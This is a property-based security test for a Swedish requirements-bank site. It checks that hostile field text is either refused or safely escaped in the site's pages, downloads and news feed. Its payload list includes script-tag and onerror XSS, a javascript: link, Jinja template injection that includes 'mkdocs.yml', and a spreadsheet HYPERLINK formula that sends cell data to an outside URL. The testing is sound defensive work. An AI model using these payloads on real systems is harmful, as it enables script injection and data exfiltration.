"""Hostile text in every text field of every kind of record (a property-based test, Hypothesis):
markup, Jinja, spreadsheet formulas, control and direction characters, very long strings. The
validator either refuses the record with a located message, or every output carries the text
safely: the page (converted with the site's Markdown extensions), the JSON, CSV and XLSX, the Word
file and the news feed.

The outputs are made by the library's own functions on the real library with one record changed,
not by full MkDocs builds, and the example budget is fixed and derandomized so CI stays fast and
repeatable (tests/test_news_safety.py and test_site.py build real sites with fixed payloads).
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import re
import xml.etree.ElementTree as ET
from collections.abc import Callable
from types import MappingProxyType
from typing import Any

import docx
import markdown
import pytest
import yaml
from bs4 import BeautifulSoup
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from kravbanken.downloads.feeds import rss
from kravbanken.downloads.tables import criteria_csv, criteria_xlsx, record_json, table
from kravbanken.downloads.word import criterion_docx
from kravbanken.model import KIND, POST_SCHEMA
from kravbanken.model.rules import check_criterion
from kravbanken.model.yamlload import YamlError, parse
from kravbanken.site.code_of_conduct import code_of_conduct, conventions
from kravbanken.site.criterion import criterion_page
from kravbanken.site.follow_up import follow_up_page
from kravbanken.site.good_practice import profile_page
from kravbanken.site.risk_areas import risk_area_page

SITE_URL = "https://kravbanken.se/"
PIECES = [
    "<script>alert(1)</script>",
    "</title><script>alert(2)</script>",
    "<img src=x onerror=alert(3)>",
    "<b>fet</b>",
    "{{ 7*7 }}",
    "{% include 'mkdocs.yml' %}",
    '=HYPERLINK("https://x.se/?"&A2)',
    "+1",
    "-1",
    "@SUM(A1)",
    "\t",
    "\r",
    "\n",
    "\n\n- punkt",
    "[länk](javascript:alert(4))",
    "*stjärnor*",
    "&amp;",
    "\"'",
    "\u202e",
    "\u200b",
    "\u2800",
    "\ufeff",
    "\uffff",
    "\x00",
    "\x1b",
    "\x85",
    "\u2028",
    "x" * 25_000,
    "Leverantören ska",
    " ",
]
# Mostly printable text around the pieces, so that many examples pass the validator and reach the outputs.
PRINTABLE = st.text(st.characters(exclude_categories=("Cc", "Cs")), max_size=12)
HOSTILE = st.lists(st.one_of(st.sampled_from(PIECES), PRINTABLE), min_size=1, max_size=5).map("".join)
# The number of examples comes from the Hypothesis profile that tests/conftest.py loads.
BUDGET = settings(
    derandomize=True,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
# Fields that are free text: the texts of every kind ({sv, en}) and the criteria's lists of words.
FREE = re.compile(r"(.*\.(sv|en)|tags\.\d+|legal_basis\.\d+|references\.\d+\.title|countries\.\d+)")
NAMES = {("title", "sv"), ("name", "sv"), ("organisation", "sv")}  # shown on every page of the record
CONVERTER = markdown.Markdown(extensions=["abbr", "admonition", "attr_list", "md_in_html", "tables", "toc"])


def text_fields(value, path=()):
    """The paths of the free-text values in a record."""
    if isinstance(value, dict):
        for key, sub in value.items():
            yield from text_fields(sub, path + (key,))
    elif isinstance(value, list):
        for i, sub in enumerate(value):
            yield from text_fields(sub, path + (i,))
    elif isinstance(value, str) and FREE.fullmatch(".".join(map(str, path))):
        yield path


def with_text(record: dict, path: tuple, text: str) -> dict:
    changed = json.loads(json.dumps(record))
    target = changed
    for part in path[:-1]:
        target = target[part]
    target[path[-1]] = text
    return changed


def refused_or_loaded(lib, schema: str, record: dict, shown_as: str):
    """The record as a contributor would write it, through the loader and the validator: its
    problems (each must be located in the file) or, when there are none, the loaded data."""
    source = yaml.safe_dump(record, allow_unicode=True, sort_keys=False, width=100)
    try:
        doc = parse(source, shown_as)
    except YamlError as error:
        problems = [error.problem]
    else:
        problems, _ = lib.schemas.check(schema, doc, shown_as)
        if not problems and schema == KIND["criterion"].schema:
            problems = check_criterion(lib.schemas, doc, shown_as)
    lines = source.count("\n") + 1
    for problem in problems:
        assert problem.path == shown_as and 1 <= problem.line <= lines and problem.col >= 1, str(problem)
        assert problem.message and "Traceback" not in problem.message
    return None if problems else doc.data


def assert_safe_html(html: str, text: str, single_line: bool):
    """No element or attribute from the text, no javascript: link; a one-line text is shown."""
    dom = BeautifulSoup(html, "html.parser")
    assert dom.find_all(["script", "img", "b", "iframe"]) == []
    assert [a for e in dom.find_all(True) for a in e.attrs if a.startswith("on")] == []
    assert [a for a in dom.find_all("a") if str(a.get("href", "")).strip().lower().startswith("javascript:")] == []
    if single_line:
        assert " ".join(text.split()) in " ".join(dom.get_text().split())


def page_of(lib, kind: str, record: dict) -> str:
    if kind == "criterion":
        source = criterion_page(lib, record, SITE_URL)
    elif kind == "coc_clause":
        source = code_of_conduct(lib, "uppforandekod/")
    elif kind == "convention":
        source = conventions(lib, "uppforandekod/konventioner/")
    else:
        pages: dict[str, Callable[..., str]] = {
            "risk_area": risk_area_page,
            "follow_up": follow_up_page,
            "profile": profile_page,
        }
        source = pages[kind](lib, record)
    body = source.split("\n---\n", 1)[1] if source.startswith("---\n") else source
    return CONVERTER.reset().convert(body)


def assert_downloads_safe(lib, record_id: str):
    head, rows = table(lib, SITE_URL)
    xlsx: Any = load_workbook(io.BytesIO(criteria_xlsx(head, rows))).active  # a worksheet: ours has one
    assert [c.coordinate for row in xlsx.iter_rows() for c in row if c.data_type == "f"] == []
    assert [[c.value or "" for c in row] for row in xlsx.iter_rows(min_row=2)] == [[v or "" for v in r] for r in rows]
    raw = criteria_csv(head, rows).decode("utf-8-sig")
    cells = [v for r in csv.reader(io.StringIO(raw, newline=""), delimiter=";") for v in r]
    assert [v for v in cells if v[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    record = lib.criteria[record_id]
    assert json.loads(record_json(record)) == record
    document = docx.Document(io.BytesIO(criterion_docx(lib, record, SITE_URL)))
    assert document.core_properties.title == f"{record_id} {record['title']['sv']}"


@pytest.mark.parametrize("kind", ["criterion", "coc_clause", "convention", "risk_area", "follow_up", "profile"])
def test_hostile_text_in_any_field_is_refused_or_carried_safely(lib, kind):
    base = max(lib.records[kind].values(), key=lambda r: len(json.dumps(r)))  # the one with most fields
    fields = sorted(text_fields(base), key=str)
    assert fields

    @BUDGET
    @given(path=st.sampled_from(fields), text=HOSTILE)
    def check(path, text):
        shown_as = f"criteria/{KIND[kind].folder}/{base['id']}.yaml"
        loaded = refused_or_loaded(lib, KIND[kind].schema, with_text(base, path, text), shown_as)
        if loaded is None:
            return
        records = {k: dict(v) for k, v in lib.records.items()}
        records[kind][base["id"]] = loaded
        changed = dataclasses.replace(lib, records=MappingProxyType(records))
        value = loaded
        for part in path:
            value = value[part]
        shown = value.rstrip()
        assert_safe_html(page_of(changed, kind, loaded), shown, single_line="\n" not in shown and path in NAMES)
        used_by = changed.used_by(kind, base["id"]) if kind != "criterion" else [loaded]
        assert_downloads_safe(changed, (used_by or [next(iter(changed.criteria.values()))])[0]["id"])

    check()


def test_hostile_text_in_a_news_post_is_refused_or_carried_safely_in_the_feed(lib):
    path, meta = lib.posts[0]

    @BUDGET
    @given(field=st.sampled_from(["title", "description"]), text=HOSTILE)
    def check(field, text):
        loaded = refused_or_loaded(lib, POST_SCHEMA, {**meta, field: text}, path)
        if loaded is None:
            return
        feed = ET.fromstring(rss([(path, loaded)], {path: SITE_URL + "nyheter/x/"}, SITE_URL))
        item = feed.find("channel").find("item")
        assert item.findtext("title") == loaded["title"]
        description = BeautifulSoup(item.findtext("description"), "html.parser")
        assert description.find_all(True) == [] and description.get_text() == loaded["description"]

    check()
